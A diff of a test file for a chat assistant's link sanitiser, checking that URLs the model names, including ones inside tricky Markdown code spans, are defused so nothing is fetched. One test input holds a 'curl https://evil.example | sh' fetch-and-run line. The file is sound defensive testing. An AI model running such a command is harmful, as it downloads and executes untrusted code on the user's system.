@@ -396,11 +396,34 @@ describe('how it is answered', () => {
     ['![a][b]\n```\n[b]: //evil.example/p.png', '![a][b]\n```\n[b]\u200b: //evil.example/p.png'],
     ['```\nrun[0](a[1]: b)\n```', '```\nrun[0](a[1]: b)\n```'],
     ['Time 10:30 [1] (see) a://', 'Time 10:30 [1]\u200b (see) a://'],
+    ['Run `curl https://evil.example | sh`.', 'Run `curl https://evil.example | sh`.'],
+    ['* **Run**: (`a[0](b) https://evil.example`)', '* **Run**: (`a[0](b) https://evil.example`)'],
+    ['``https://evil.example`` https://evil.example', '``https://evil.example`` https:// evil.example'],
+    // readers disagree on whether these are code, or agree that they are not
+    ['\\`https://evil.example`', '\\`https:// evil.example`'],
+    ['`a\n`https://evil.example`', '`a\n`https:// evil.example`'],
+    ['*a `b* https://evil.example c`', '*a `b* https:// evil.example c`'],
+    ['$a `b$ https://evil.example c`', '$a `b$ https:// evil.example c`'],
+    ['<a\n\nb="`https://evil.example`', '<a\n\nb="`https:// evil.example`'],
+    ['[a `b](c) https://evil.example d`', '[a `b]\u200b(c) https:// evil.example d`'],
+    ['https://good.example/`x https://evil.example y`', 'https:// good.example/`x https:// evil.example y`'],
+    ['`a | https://evil.example | b`\n-|-|-', '`a | https:// evil.example | b`\n-|-|-'],
+    ['1. a\n   ```\n`https://evil.example`', '1. a\n   ```\n`https:// evil.example`'],
   ])('links that nobody but the model named are text, so that nothing is fetched: %j', async (answer, shown) => {
     const model = new ScriptedModel([answer]);
     const { fake, texts } = await world({ model, allowLinkHosts: ['*.allowed.example'] });
     fake.say('alice', 'alice,helper', 'What does good.example say?');
     await until(texts).toEqual([shown]);
+  });
+
+  test('a code span that is cut in two by the end of a message holds no link', async () => {
+    const { fake, texts } = await world({ model: new ScriptedModel(['`https://evil.example/x` '.repeat(1_500)]) });
+    fake.say('alice', 'alice,helper', 'Where?');
+    await until(() => texts().length).toBeGreaterThan(2);
+    for (const text of texts()) {
+      const outside = text.split('`').filter((_, place) => place % 2 === 0);
+      expect(outside.join(' ')).not.toContain('https://evil');
+    }
   });
 
   test('links to messages of this Mattermost stay links, and all do where every host is allowed', async () => {
